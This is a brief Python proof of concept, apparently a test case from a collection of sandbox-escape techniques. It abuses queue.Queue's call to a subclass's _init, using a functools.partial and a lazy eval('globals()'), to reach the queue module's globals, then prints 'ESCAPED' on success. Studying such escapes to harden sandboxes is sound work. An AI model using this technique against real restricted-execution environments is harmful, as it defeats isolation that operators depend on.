# technique: queue.Queue calls _init of the subclass
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import queue
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))


class Mine(queue.Queue):
    _init = staticmethod(peek)


Mine()
if kept[0]['__name__'] == 'queue':
    print('ESCAPED globals of queue')
